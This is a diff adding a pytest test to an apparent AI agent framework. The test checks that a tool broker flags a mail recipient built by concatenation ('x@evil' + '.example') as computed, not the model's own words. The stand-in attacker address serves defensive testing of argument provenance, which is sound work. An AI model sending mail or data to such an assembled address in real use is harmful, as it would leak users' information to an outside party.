@@ -416,6 +416,22 @@ async def test_what_a_client_sends_counts_as_no_words_of_the_person(tmp_path: Pa
     assert words == ([] if route in TYPED else [f"from the client on route {route}"])
 
 
+@pytest.mark.parametrize(
+    ("route", "by"), [("flight", "computed by your plan"), ("eval", "computed by your form")]
+)
+async def test_a_computed_value_is_not_called_the_models_own(tmp_path: Path, route: Route, by: str) -> None:
+    mail = tool("mail", params={"to": {"type": str}, "subject": {"type": str}}, effects=["net"])
+    async with AsyncAgent(
+        **grouped(workspace=tmp_path, model=scripted(), tools=[mail], session="s")
+    ) as agent:
+        await agent.eval('(mail :to (+ "x@evil" ".example") :subject "The apples")', route=route)
+        (request,) = agent.broker.requests()
+    assert {one.argument: (one.words, one.marked) for one in request.origins} == {
+        "to": (by, True),
+        "subject": ("in your task", False),
+    }
+
+
 def test_the_door_refuses_a_route_it_does_not_know() -> None:
     body, guard = Spy(), Spy()
     door = gateway(tool("probe", body, guard=guard))
